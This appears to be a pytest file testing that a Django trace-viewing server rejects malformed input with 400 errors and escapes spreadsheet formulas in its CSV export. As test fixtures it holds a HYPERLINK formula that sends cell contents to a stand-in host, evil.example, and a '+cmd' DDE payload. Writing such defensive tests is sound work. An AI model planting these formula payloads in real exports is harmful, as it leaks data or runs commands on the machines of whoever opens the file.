"""What an outside attacker sent the live server: NUL characters, lone surrogates, a 100,000-deep JSON
body, a boolean version, a price of 1e400, a formula as a model name. Every one is a 400 with a message
(never a 500), and a CSV never hands a spreadsheet a formula.

On PostgreSQL (CI) these reach the database that refused them; on SQLite they still must be 400s.
"""

import csv
import io
import json
import time

import pytest
import requests
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from ingest.models import Membership, Run
from tests import factories

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def site(live_server, project, key, alice):
    """The live server with one run (its model name a formula), and alice's logged-in session."""
    request = ExportTraceServiceRequest()
    for number in (1, 2):
        factories.chat_span(
            request,
            trace_id=bytes(range(1, 17)),
            number=number,
            attributes={
                "gen_ai.conversation.id": "odd",
                "gen_ai.request.model": FORMULA,
                "gen_ai.provider.name": "+cmd|' /C calc'!A0",
            },
        )
    answer = requests.post(
        f"{live_server.url}/v1/traces",
        data=request.SerializeToString(),
        headers={"Content-Type": "application/x-protobuf", "Authorization": f"Bearer {key}"},
        timeout=30,
    )
    assert answer.status_code == 200, answer.text
    run = Run.objects.get(project=project)
    session = requests.Session()
    session.get(f"{live_server.url}/login/", timeout=10)
    logged_in = session.post(
        f"{live_server.url}/login/",
        data={
            "username": "alice",
            "password": "pw-alice",
            "csrfmiddlewaretoken": session.cookies["csrftoken"],
        },
        timeout=10,
    )
    # Logged in: on the runs of alice's project.
    assert logged_in.url == f"{live_server.url}/projects/{project.slug}/runs/", logged_in.text[:500]
    session.headers["X-CSRFToken"] = session.cookies["csrftoken"]
    return live_server.url, session, run


def deep(levels: int) -> str:
    return '{"body": "x", "nested": ' + "[" * levels + "]" * levels + "}"


def export_with_boolean_version() -> str:
    return json.dumps({"format": "ctxview.run-export", "version": True, "run": {"key": "x"}, "calls": []})


# (name, method, path, body: a JSON-able value or raw text, form fields, query, words the message has)
ODD_API = [
    ("NUL in a note body", "POST", "/api/v1/runs/{run}/notes", {"body": "a\x00b"}, "NUL"),
    ("NUL in an item id", "POST", "/api/v1/runs/{run}/notes", {"body": "x", "item_id": "\x00"}, "NUL"),
    ("surrogate in a note", "POST", "/api/v1/runs/{run}/notes", {"body": "\ud800"}, "surrogate"),
    ("NUL in a label", "POST", "/api/v1/runs/{run}/labels", {"name": "inc\x00"}, "NUL"),
    ("surrogate in a label", "POST", "/api/v1/runs/{run}/labels", {"name": "\udfff"}, "surrogate"),
    ("NUL in a JSON key", "POST", "/api/v1/runs/{run}/notes", {"body": "x", "\x00": 1}, "NUL"),
    ("100,000-deep JSON", "POST", "/api/v1/runs/{run}/notes", deep(100_000), "nested deeper"),
    ("65-deep JSON", "POST", "/api/v1/runs/{run}/notes", deep(65), "nested deeper"),
    ("version true", "POST", "/api/v1/projects/alpha/import", export_with_boolean_version(), "version"),
    (
        "price 1e400",
        "PUT",
        "/api/v1/projects/alpha/prices",
        '{"prices": [{"model": "m", "input": 1e400, "output": 1}]}',
        "too large",
    ),
    (
        "price NaN",
        "PUT",
        "/api/v1/projects/alpha/prices",
        '{"prices": [{"model": "m", "input": NaN, "output": 1}]}',
        "NaN",
    ),
    (
        "price 1e300",
        "PUT",
        "/api/v1/projects/alpha/prices",
        '{"prices": [{"model": "m", "input": 1e300, "output": 1}]}',
        "from 0 to",
    ),
    ("DELETE a NUL label", "DELETE", "/api/v1/runs/{run}/labels/%00", None, "NUL"),
]
ODD_QUERY = ["item", "source", "version", "hash", "label", "project", "service", "model", "finding"]
ODD_PAGES = [
    ("a project's name", "/projects/new", {"name": "pro\x00ject"}),
    ("a key's name", "/projects/alpha/keys", {"name": "\x00"}),
    ("a member's name", "/projects/alpha/settings/add_member", {"username": "\x00"}),
    ("a label on the review page", "/runs/{run}/review/add_label", {"name": "\x00"}),
]


def timed(send) -> tuple[requests.Response, float]:
    started = time.perf_counter()
    response = send()
    return response, time.perf_counter() - started


@pytest.mark.parametrize("name, method, path, body, words", ODD_API, ids=[case[0] for case in ODD_API])
def test_odd_api_input_is_a_400_with_a_message(site, name, method, path, body, words):
    url, session, run = site
    data = body if isinstance(body, str) or body is None else json.dumps(body)
    response, seconds = timed(
        lambda: session.request(
            method,
            url + path.format(run=run.id),
            data=data,
            headers={"Content-Type": "application/json"},
            timeout=30,
        )
    )
    assert response.status_code == 400, (name, response.status_code, response.text[:300])
    assert words in response.json()["error"], response.json()
    assert seconds < 5, f"{name} took {seconds:.2f} s"


@pytest.mark.parametrize("parameter", ODD_QUERY)
def test_a_nul_in_an_api_search_parameter_is_a_400(site, key, parameter):
    url, session, run = site
    for value in ("%00", "billing%00.ts"):
        response = requests.get(
            f"{url}/api/v1/runs?{parameter}={value}", headers={"Authorization": f"Bearer {key}"}, timeout=10
        )
        assert response.status_code == 400, (parameter, response.status_code, response.text[:300])
        assert (
            response.json()["error"]
            == f"{parameter} contains a NUL character: such text cannot be stored or searched"
        )


@pytest.mark.parametrize("parameter", ["service", "model", "finding", "label", "item", "source", "q", "sort"])
def test_a_nul_in_a_runs_page_filter_is_a_400_page(site, parameter):
    url, session, run = site
    response = session.get(f"{url}/projects/alpha/runs/?{parameter}=a%00", timeout=10)
    assert response.status_code == 400
    assert "contains a NUL character" in response.text


@pytest.mark.parametrize("name, path, form", ODD_PAGES, ids=[case[0] for case in ODD_PAGES])
def test_a_nul_in_a_form_field_is_a_400_page(site, name, path, form):
    url, session, run = site
    fields = {**form, "csrfmiddlewaretoken": session.cookies["csrftoken"]}
    response = session.post(url + path.format(run=run.id), data=fields, timeout=10)
    assert response.status_code == 400, (name, response.status_code)
    assert "contains a NUL character" in response.text
    assert Membership.objects.filter(project__slug="alpha").count() == 1  # nothing was added


def test_well_formed_writes_still_work(site):
    url, session, run = site
    note = session.post(f"{url}/api/v1/runs/{run.id}/notes", json={"body": "tab\there, é, 😀"}, timeout=10)
    assert note.status_code == 201 and note.json()["body"] == "tab\there, é, 😀"
    label = session.post(f"{url}/api/v1/runs/{run.id}/labels", json={"name": "incident"}, timeout=10)
    assert label.status_code == 200
    prices = session.put(
        f"{url}/api/v1/projects/alpha/prices",
        json={"prices": [{"model": "m", "input": 3, "output": 15}]},
        timeout=10,
    )
    assert prices.status_code == 200


def test_the_calls_csv_never_hands_a_spreadsheet_a_formula(site):
    url, session, run = site
    response = session.get(f"{url}/api/v1/runs/{run.id}/calls.csv", timeout=10)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    calls = list(run.calls.order_by("seq"))
    assert len(rows) == len(calls) == 2
    for row, call in zip(rows, calls, strict=True):
        # Shown as text, as stored: the apostrophe only tells the spreadsheet not to evaluate it.
        assert row["model"] == "'" + call.model == "'" + FORMULA
        assert row["provider"] == "'" + call.provider and call.provider.startswith("+cmd")
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
